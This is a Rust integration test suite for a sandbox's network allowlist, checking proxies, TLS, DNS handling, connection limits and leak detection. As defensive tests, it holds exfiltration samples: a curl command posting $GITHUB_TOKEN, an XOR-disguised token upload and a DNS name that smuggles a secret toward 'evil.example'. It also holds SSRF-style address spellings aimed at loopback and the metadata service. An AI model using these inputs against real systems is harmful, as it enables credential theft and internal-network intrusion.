//! What the guest reaches, and what it does not: real programs and real servers, the host's loopback between.
//!
//! The servers lie at names of the allowlist by `network.resolve`. Every refusal stands beside a twin that
//! works, so that a door which is shut for all cannot look like a strong one.

use crate::harness::made_up::hex;
use crate::harness::probe::NET;
use crate::harness::{PYTHON, Ran, World, text};

use serde_json::json;
use std::io::{BufRead as _, BufReader};
use std::path::Path;
use std::process::{Child, Command, Stdio};

/// A server that ends with the test.
struct Server {
    child: Child,
    port: u16,
}

/// Answers every request with its request line and body; `tls` with a certificate of its own. Says its port.
const SERVER: &str = r#"
import http.server, ssl, subprocess, sys
class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def answer(self):
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        said = b"host=%s line=%s body=%s\n" % (self.headers.get("Host", "").encode(), self.requestline.encode(), body)
        self.send_response(200)
        self.send_header("Content-Length", str(len(said)))
        self.end_headers()
        self.wfile.write(said)
    do_GET = do_POST = do_PUT = do_HEAD = answer
    def log_message(self, *words): pass
server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
if sys.argv[1] == "tls":
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=api.example.com",
        "-addext", "subjectAltName=DNS:api.example.com", "-keyout", sys.argv[2] + "/key", "-out", sys.argv[2] + "/cert"],
        check=True, stderr=subprocess.DEVNULL)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(sys.argv[2] + "/cert", sys.argv[2] + "/key")
    server.socket = context.wrap_socket(server.socket, server_side=True)
print(server.server_port, flush=True)
server.serve_forever()
"#;

impl Server {
    fn start(kind: &str, directory: &Path) -> Self {
        let mut child = Command::new(PYTHON)
            .args(["-c", SERVER, kind])
            .arg(directory)
            .stdout(Stdio::piped())
            .spawn()
            .expect("start a server");
        let mut line = String::new();
        let out = child.stdout.take().expect("a piped stdout");
        BufReader::new(out).read_line(&mut line).expect("the server says its port");
        let port = line.trim().parse().expect("a port");
        Self { child, port }
    }

    fn http() -> Self {
        Self::start("http", Path::new("/"))
    }

    /// `--config` that puts this server at `host:port`.
    fn at(&self, allow: &str, name: &str) -> [String; 2] {
        let own = self.port;
        let config = format!(
            r#"{{"network": {{"mode": "allowlist", "allow": ["{allow}"], "resolve": ["{name}=127.0.0.1:{own}"]}}}}"#
        );
        ["--config".to_owned(), config]
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        drop(self.child.kill());
        drop(self.child.wait());
    }
}

/// The destinations of all events of an action.
fn destinations(ran: &Ran, action: &str) -> Vec<String> {
    ran.record.of(action).iter().map(|event| text(event, "/destination/address").to_owned()).collect()
}

#[test]
fn curl_reaches_what_is_listed_and_the_record_says_so() {
    let (world, server) = (World::new(), Server::http());
    let ran = world
        .shield(["curl", "-sS", "-d", "question", "http://api.example.com/v1"])
        .with(server.at("api.example.com", "api.example.com:80"))
        .run()
        .expect_clean();
    assert_eq!(ran.text(), "host=api.example.com line=POST /v1 HTTP/1.1 body=question\n", "{ran}");
    assert_eq!(destinations(&ran, "connection-allowed"), ["api.example.com:80"], "{ran}");
    let closed = ran.record.of("connection-closed");
    assert_eq!(closed.len(), 1, "{ran}");
    assert!(closed[0]["source"]["bytes"].as_u64() > Some(50), "{ran}");
    assert!(closed[0]["destination"]["bytes"].as_u64() > Some(50), "{ran}");
    assert!(text(closed[0], "/process/executable").ends_with("curl"), "{ran}");
    assert_eq!(text(closed[0], "/shieldrun/trust"), "fact", "{ran}");
}

#[test]
fn a_host_that_is_not_listed_has_no_name_and_the_person_is_told() {
    let (world, server) = (World::new(), Server::http());
    let ran = world
        .shield(["curl", "-sS", "http://other.example.com/"])
        .with(server.at("api.example.com", "api.example.com:80"))
        .run()
        .expect_code(6);
    assert!(destinations(&ran, "name-denied").contains(&"other.example.com".to_owned()), "{ran}");
    assert!(ran.said().contains("not reached: `other.example.com`"), "{ran}");
    assert!(ran.record.of("connection-allowed").is_empty(), "{ran}");
}

#[test]
fn without_a_network_nothing_has_a_name() {
    let world = World::new();
    let ran = world.shield(["curl", "-sS", "http://api.example.com/"]).run().expect_code(6);
    assert!(ran.record.of("name-denied").is_empty(), "nobody is there to be asked\n{ran}");
}

#[test]
fn tls_passes_unread_by_every_client() {
    let world = World::new();
    let server = Server::start("tls", &world.project);
    let python = "import urllib.request as u, ssl; print(u.urlopen('https://api.example.com/p', context=ssl.create_default_context(cafile='cert')).read().decode(), end='')";
    let node = "fetch('https://api.example.com/n').then(r => r.text()).then(t => process.stdout.write(t))";
    for (command, path) in [
        (vec!["curl", "-sS", "--cacert", "cert", "https://api.example.com/c"], "/c"),
        (vec![PYTHON, "-c", python], "/p"),
        (vec!["env", "NODE_EXTRA_CA_CERTS=cert", "node", "-e", node], "/n"),
    ] {
        let ran = world
            .shield(&command)
            .with(server.at("api.example.com", "api.example.com:443"))
            .run()
            .expect_clean();
        assert_eq!(ran.text(), format!("host=api.example.com line=GET {path} HTTP/1.1 body=\n"), "{ran}");
        assert_eq!(destinations(&ran, "connection-allowed"), ["api.example.com:443"], "{ran}");
    }
}

#[test]
fn a_port_of_its_own_is_reached_and_the_guest_can_still_serve_on_it() {
    let (world, server) = (World::new(), Server::http());
    let script = format!(
        "curl -sS http://api.example.com:8765/a; {PYTHON} -c '
import socket, threading
s = socket.create_server((\"127.0.0.1\", 8765))
c = socket.create_connection((\"127.0.0.1\", 8765)); c.sendall(b\"own\"); print(s.accept()[0].recv(3).decode())'"
    );
    let ran = world
        .bash(&script)
        .with(server.at("api.example.com:8765", "api.example.com:8765"))
        .run()
        .expect_clean();
    assert_eq!(ran.text(), "host=api.example.com:8765 line=GET /a HTTP/1.1 body=\nown\n", "{ran}");
}

#[test]
fn the_proxy_door_speaks_http_and_socks() {
    let (world, server) = (World::new(), Server::http());
    for proxy in ["http://198.18.0.1:80", "socks5h://198.18.0.1:80", "socks5://198.18.0.1:80"] {
        let ran = world
            .shield(["curl", "-sS", "-x", proxy, "http://api.example.com/x"])
            .with(server.at("api.example.com", "api.example.com:80"))
            .run()
            .expect_clean();
        assert_eq!(ran.text(), "host=api.example.com line=GET /x HTTP/1.1 body=\n", "{proxy}\n{ran}");
    }
    let ran = world
        .shield(["curl", "-sS", "-p", "-x", "http://198.18.0.1:80", "http://api.example.com/x"])
        .with(server.at("api.example.com", "api.example.com:80"))
        .run()
        .expect_clean();
    assert_eq!(destinations(&ran, "connection-allowed"), ["api.example.com:80"], "{ran}");
    let denied = world
        .shield(["curl", "-sS", "-x", "http://198.18.0.1:80", "http://other.example.com/x"])
        .with(server.at("api.example.com", "api.example.com:80"))
        .run()
        .expect_clean();
    assert!(denied.text().contains("`other.example.com` is not on the allowlist"), "{denied}");
    assert_eq!(destinations(&denied, "connection-denied"), ["other.example.com:80"], "{denied}");
}

#[test]
fn odd_spellings_and_private_addresses_are_refused_where_the_literal_works() {
    let (world, server) = (World::new(), Server::http());
    let own = server.port;
    let asking = |host: &str, port: u16, allow: &str| {
        let program = "
import socket, sys
host, port = bytes.fromhex(sys.argv[1]), int(sys.argv[2])
s = socket.create_connection(('198.18.0.1', 80)); s.sendall(b'\\x05\\x01\\x00'); s.recv(2)
s.sendall(b'\\x05\\x01\\x00\\x03' + bytes([len(host)]) + host + port.to_bytes(2, 'big')); print(s.recv(10)[1])";
        let ran = world
            .shield([PYTHON, "-c", program, &hex(host.as_bytes()), &port.to_string()])
            .with(["--network", "allowlist", "--allow", allow])
            .run()
            .expect_clean();
        (ran.text().trim().to_owned(), destinations(&ran, "connection-denied").len())
    };
    let literal = format!("127.0.0.1:{own}");
    assert_eq!(asking("127.0.0.1", own, &literal), ("0".to_owned(), 0));
    for host in [
        "127.1",
        "0x7f.1",
        "2130706433",
        "0177.0.0.1",
        "api.example.com\0.evil.example",
        "169.254.169.254",
        "::ffff:169.254.169.254",
        "10.0.0.1",
        "[::1]",
        "localhost",
        "caf\u{e9}.fr",
        "127.0.0.1%lo",
    ] {
        assert_eq!(asking(host, own, &literal), ("2".to_owned(), 1), "{host:?}");
    }
    // A name that leads to an address of this machine's is as good as the address.
    assert_eq!(asking("localhost", own, &format!("localhost:{own}")), ("2".to_owned(), 1));
}

#[test]
fn a_static_program_that_knows_no_proxy_gets_through_and_no_name_carries_anything_out() {
    let (world, server) = (World::new(), Server::http());
    let probe = world.probe(&NET);
    let probe = probe.to_str().expect("a path in UTF-8");
    let run = |arguments: &[&str]| {
        world
            .shield([&[probe], arguments].concat())
            .with(server.at("api.example.com", "api.example.com:80"))
            .run()
            .expect_clean()
    };
    let ran = run(&["name", "api.example.com"]);
    assert!(ran.text().starts_with("0 198.18."), "{ran}");
    let ran = run(&["name", "c2VjcmV0LXZhbHVl.evil.example"]);
    assert_eq!(ran.text(), "3\n", "{ran}");
    assert_eq!(destinations(&ran, "name-denied"), ["c2VjcmV0LXZhbHVl.evil.example"], "{ran}");
    let ran = run(&["fetch", "api.example.com"]);
    assert!(ran.text().contains("host=api.example.com line=GET /static"), "{ran}");
    // Nothing else has a way out: no route, not even for one datagram.
    assert_eq!(run(&["datagram", "8.8.8.8"]).text(), "Network is unreachable\n");
    assert_eq!(run(&["connect", "169.254.169.254"]).text(), "Network is unreachable\n");
}

#[test]
fn a_real_value_in_plain_ends_the_run_and_a_synthetic_the_connection() {
    let (world, server) = (World::new(), Server::http());
    let real = world.real("GITHUB_TOKEN");
    let disguised: Vec<u8> = real.bytes().map(|byte| byte ^ 0x55).collect();
    let program = "
import sys, urllib.request as u
v = bytes(b ^ 0x55 for b in bytes.fromhex(sys.argv[1]))
print(u.urlopen('http://api.example.com/', data=b'x=' + v).read())";
    let ran = world
        .shield([PYTHON, "-c", program, &hex(&disguised)])
        .with(server.at("api.example.com", "api.example.com:80"))
        .run()
        .expect_code(120);
    ran.assert_nothing_real();
    assert!(!ran.text().contains("host="), "{ran}");
    let leaks = ran.record.of("leak-stopped");
    assert_eq!(leaks.len(), 1, "{ran}");
    assert_eq!(text(leaks[0], "/destination/address"), "api.example.com:80", "{ran}");
    assert!(ran.said().contains("was about to leave for api.example.com:80"), "{ran}");

    let ran = world
        .bash("curl -sS -d x=$GITHUB_TOKEN http://api.example.com/; echo $?; curl -sS -d x=y http://api.example.com/")
        .with(server.at("api.example.com", "api.example.com:80"))
        .run()
        .expect_clean();
    assert!(ran.text().ends_with("body=x=y\n") && !ran.text().starts_with('h'), "{ran}");
    assert_eq!(ran.record.of("synthetic-seen").len(), 1, "{ran}");
}

#[test]
fn requests_are_told_apart_where_the_list_does() {
    let (world, server) = (World::new(), Server::http());
    let ran = world
        .bash(
            "curl -sS http://api.example.com/v1/x; curl -sS -X POST -d a=b http://api.example.com/v1/x;
             curl -sS http://api.example.com/v2/x; curl -sS --path-as-is http://api.example.com/v1/../v2/x",
        )
        .with(server.at("GET api.example.com/v1/**", "api.example.com:80"))
        .run()
        .expect_clean();
    assert!(ran.text().starts_with("host=api.example.com line=GET /v1/x HTTP/1.1"), "{ran}");
    assert_eq!(ran.text().matches("is not on the allowlist").count(), 3, "{ran}");
    assert_eq!(ran.record.of("connection-denied").len(), 3, "{ran}");
}

#[test]
fn a_project_cannot_open_what_the_user_did_not() {
    let world = World::new();
    std::fs::write(
        world.project.join("sandbox-policy.yaml"),
        "network: {mode: open, resolve: [\"a.example:80=127.0.0.1:1\"]}\n",
    )
    .expect("write a policy");
    let ran = world.bash("true").run().expect_code(125);
    assert!(ran.said().contains("loosens") && ran.said().contains("is for people"), "{ran}");
}

#[test]
fn the_weaker_tiers_have_no_network_to_offer() {
    let world = World::new();
    for tier in ["landlock", "preload"] {
        let ran = world
            .bash("true")
            .with(["--isolation", tier, "--writes", "direct", "--allow", "a.example"])
            .run();
        let ran = ran.expect_code(125);
        assert!(ran.said().contains("without namespaces"), "{ran}");
    }
}

/// Connects to each place, and says what came of it.
const PLACES: &str = "import socket, sys\n\
    for place in sys.argv[1:]:\n\
    \x20   host, port = place.rsplit(':', 1)\n\
    \x20   try:\n\
    \x20       s = socket.create_connection((host, int(port)), 5)\n\
    \x20       s.sendall(b'GET / HTTP/1.1\\r\\nHost: h\\r\\nConnection: close\\r\\n\\r\\n')\n\
    \x20       print(place, s.makefile('rb').readline().split()[1].decode())\n\
    \x20   except (OSError, IndexError) as error: print(place, type(error).__name__)";

#[test]
fn a_listed_address_is_reached_without_a_proxy_at_each_port_and_in_both_families() {
    let (world, server) = (World::new(), Server::http());
    let own = server.port;
    let listed =
        ["203.0.113.5:80", "203.0.113.5:8080", "[2001:db8::80]:80", "[2001:db8::80]:8080", "[fd00::5]:7070"];
    let resolve = listed.map(|place| format!("{place}=127.0.0.1:{own}"));
    let config = json!({"network": {"mode": "allowlist", "allow": listed, "resolve": resolve}}).to_string();
    let bare = |place: &str| place.replace(['[', ']'], "");
    let others = ["203.0.113.6:80", "203.0.113.5:8081", "2001:db8::81:80", "2001:db8::80:8081", "fe80::1:80"];
    let places = listed.map(bare).into_iter().chain(others.map(str::to_owned));
    let command: Vec<String> = [PYTHON, "-c", PLACES].map(str::to_owned).into_iter().chain(places).collect();
    let ran = world.shield(&command).with(["--config".to_owned(), config]).run().expect_clean();
    let said: Vec<_> = ran.text().lines().map(|line| line.rsplit(' ').next().map(str::to_owned)).collect();
    let reached = said.iter().filter(|said| said.as_deref() == Some("200")).count();
    assert!(said[..5].iter().all(|said| said.as_deref() == Some("200")) && reached == 5, "{ran}");
    assert_eq!(destinations(&ran, "connection-allowed"), listed, "{ran}");
    assert!(text(ran.record.of("connection-allowed")[2], "/process/executable").contains("python"), "{ran}");
}

#[test]
fn an_open_network_has_every_port_and_no_private_address() {
    let (world, server) = (World::new(), Server::http());
    let own = server.port;
    let resolve: Vec<String> =
        [22, 80, 7070].map(|port| format!("\"any.example.com:{port}=127.0.0.1:{own}\"")).into();
    let resolve = resolve.join(", ");
    let places =
        ["any.example.com:22", "any.example.com:80", "any.example.com:7070", "10.0.0.1:22", "10.0.0.1:7070"];
    let config = |rest: &str| format!(r#"{{"network": {{{rest}, "resolve": [{resolve}]}}}}"#);
    let run = |config: &str| {
        let words = [[PYTHON, "-c", PLACES].as_slice(), &places].concat();
        world.shield(words).with(["--config", config]).run().expect_clean()
    };
    let ran = run(&config(r#""mode": "open""#));
    let reached = "any.example.com:22 200\nany.example.com:80 200\nany.example.com:7070 200\n";
    assert!(ran.text().starts_with(reached), "{ran}");
    assert!(!ran.text().contains("10.0.0.1:22 200") && !ran.text().contains("10.0.0.1:7070 200"), "{ran}");
    let denied = destinations(&ran, "connection-denied");
    assert_eq!(denied, ["10.0.0.1:22", "10.0.0.1:7070"], "{ran}");

    let ran = run(&config(r#""mode": "allowlist", "allow": ["any.example.com"]"#));
    assert!(ran.text().contains("any.example.com:80 200"), "{ran}");
    assert!(!ran.text().contains("any.example.com:22 200"), "{ran}");
    assert!(!ran.text().contains("any.example.com:7070 200"), "{ran}");
}

#[test]
fn an_open_network_takes_no_port_from_the_guest() {
    let (world, server) = (World::new(), Server::http());
    let own = server.port;
    let config =
        format!(r#"{{"network": {{"mode": "open", "resolve": ["any.example.com:7070=127.0.0.1:{own}"]}}}}"#);
    let script = "import socket, threading\n\
        s = socket.create_connection(('any.example.com', 7070), 5)\n\
        own = socket.create_server(('127.0.0.1', 7070))\n\
        c = socket.create_connection(('127.0.0.1', 7070), 5)\n\
        own.accept()[0].sendall(b'own\\n')\n\
        print(c.makefile().readline(), end='')";
    let ran = world.shield([PYTHON, "-c", script]).with(["--config", &config]).run().expect_clean();
    assert_eq!(ran.text(), "own\n", "{ran}");
}

/// Asks over TCP, as a resolver does whose answer was too long, and connects to what it is told.
const OVER_TCP: &str = "
import socket, struct, sys
def ask(name):
    labels = b''.join(bytes([len(part)]) + part.encode() for part in name.split('.'))
    question = struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + labels + b'\\0' + struct.pack('>HH', 1, 1)
    s.sendall(struct.pack('>H', len(question)) + question)
    answer = s.recv(struct.unpack('>H', s.recv(2, socket.MSG_WAITALL))[0], socket.MSG_WAITALL)
    return answer[3] & 15, socket.inet_ntoa(answer[-4:]) if answer[7] else ''
s = socket.create_connection(('127.0.0.1', 53))
code, address = ask('api.example.com')
print(code, address.startswith('198.18.'), *ask('secret.evil.example'))
t = socket.create_connection((address, 80)); t.sendall(b'GET /tcp HTTP/1.0\\r\\n\\r\\n'); print(t.makefile('rb').read()[-30:])
";

#[test]
fn names_are_answered_over_tcp_too_and_only_those_of_the_list() {
    let (world, server) = (World::new(), Server::http());
    let ran = world
        .shield([PYTHON, "-c", OVER_TCP])
        .with(server.at("api.example.com", "api.example.com:80"))
        .run()
        .expect_clean();
    assert!(ran.text().starts_with("0 True 3 \n") && ran.text().contains("GET /tcp"), "{ran}");
    assert_eq!(destinations(&ran, "name-denied"), ["secret.evil.example"], "{ran}");
}

/// Holds connections open, as many as it can, and asks on another for something.
const HOARDER: &str = "
import resource, socket, sys, time
most = int(sys.argv[1])
resource.setrlimit(resource.RLIMIT_NOFILE, (min(most + 64, resource.getrlimit(resource.RLIMIT_NOFILE)[1]),) * 2)
def ask(s):
    s.sendall(b'GET /x HTTP/1.0\\r\\n\\r\\n')
    said = b''
    try:
        while part := s.recv(999): said += part
    except OSError: pass
    return b'line=GET' in said
first = socket.create_connection(('198.18.0.1', 80))
first.sendall(b'CONNECT api.example.com:80 HTTP/1.0\\r\\n\\r\\n'); first.recv(999)
def refused():
    # One that is refused may be reset before `connect` has returned.
    try: held.append(socket.create_connection(('198.18.0.1', 80)))
    except ConnectionResetError: return True
held = []
for _ in range(most - 1): refused()
print(ask(first))
try: print('reset' if refused() else held[-1].recv(1) == b'x')
except ConnectionResetError: print('reset')
for s in held: s.close()
def again():
    try:
        s = socket.create_connection(('198.18.0.1', 80))
        s.sendall(b'CONNECT api.example.com:80 HTTP/1.0\\r\\n\\r\\n'); s.recv(999)
    except OSError: return False
    return ask(s)
print(any(again() or time.sleep(0.2) for _ in range(50)))
";

#[test]
fn more_idle_connections_than_there_may_be_are_refused_and_hurt_nobody_else() {
    let (world, server) = (World::new(), Server::http());
    for most in ["1024", "10000"] {
        let ran = world
            .shield([PYTHON, "-c", HOARDER, most])
            .with(server.at("api.example.com", "api.example.com:80"))
            .run()
            .expect_clean();
        // The first works while the others wait, the next one is refused, and when they are gone there is room again.
        // Ten thousand may take so long to be made that the oldest, which said nothing, are ended before the last.
        let is_refused = ran.text() == "True\nreset\nTrue\n" || most == "10000";
        assert!(
            is_refused && ran.text().starts_with("True\n") && ran.text().ends_with("True\n"),
            "{most}: {ran}"
        );
        let refused = ran.record.of("connection-denied");
        assert!(refused.iter().any(|event| text(event, "/rule/name") == "network.limit"), "{ran}");
    }
}

/// A program of Rust, static, which knows nothing of a proxy.
const RUST: &str = r#"
use std::io::{Read, Write};
fn main() {
    let host = std::env::args().nth(1).unwrap();
    match std::net::TcpStream::connect((host.as_str(), 80)) {
        Ok(mut stream) => {
            stream.write_all(b"GET /rust HTTP/1.0\r\n\r\n").unwrap();
            let mut said = String::new();
            stream.read_to_string(&mut said).unwrap();
            println!("{}", said.lines().last().unwrap());
        }
        Err(error) => println!("no: {error}"),
    }
}
"#;

#[test]
fn a_static_program_of_rust_gets_through() {
    let (world, server) = (World::new(), Server::http());
    world.write("client.rs", RUST);
    let compiled = ["/usr/bin/rustc", "-Ctarget-feature=+crt-static", "-o", "client", "client.rs"];
    world.native(compiled);
    for (host, works) in [("api.example.com", true), ("other.example.com", false)] {
        let ran = world
            .shield(["./client", host])
            .with(server.at("api.example.com", "api.example.com:80"))
            .run()
            .expect_clean();
        assert_eq!(ran.text().contains("line=GET /rust"), works, "{ran}");
        assert_eq!(ran.text().starts_with("no: "), !works, "{ran}");
    }
}

#[test]
fn a_body_beyond_every_limit_is_refused_and_a_large_one_costs_the_launcher_no_memory() {
    let (world, server) = (World::new(), Server::http());
    std::fs::File::create(world.project.join("large"))
        .and_then(|file| file.set_len(256 << 20))
        .expect("a file");
    let config = server.at("api.example.com", "api.example.com:80");
    let config = config[1].replace("{\"network\"", "{\"secrets\": {\"mode\": \"broker\"}, \"network\"");
    // 256 MiB up and back down; then ten gigabytes are announced.
    let script = "curl -sS --data-binary @large -o out http://api.example.com/; wc -c < out; rm out; \
        curl -s -m 30 -H 'Content-Length: 10737418240' -d x http://api.example.com/; echo; echo told; read line";
    let mut running = world.bash(script).with(["--config".to_owned(), config]).start();
    running.await_text("told");
    let status =
        std::fs::read_to_string(format!("/proc/{}/status", running.pid())).expect("the launcher's status");
    running.say(b"\n");
    let ran = running.wait();
    let peak = status.lines().find_map(|line| line.strip_prefix("VmHWM:")).expect("a peak");
    let peak: u64 = peak.trim().trim_end_matches(" kB").parse().expect("a number");
    assert!(peak < 64 << 10, "{peak} kB\n{ran}");
    assert!(ran.text().starts_with("2684") && ran.text().contains("larger than the policy allows"), "{ran}");
}
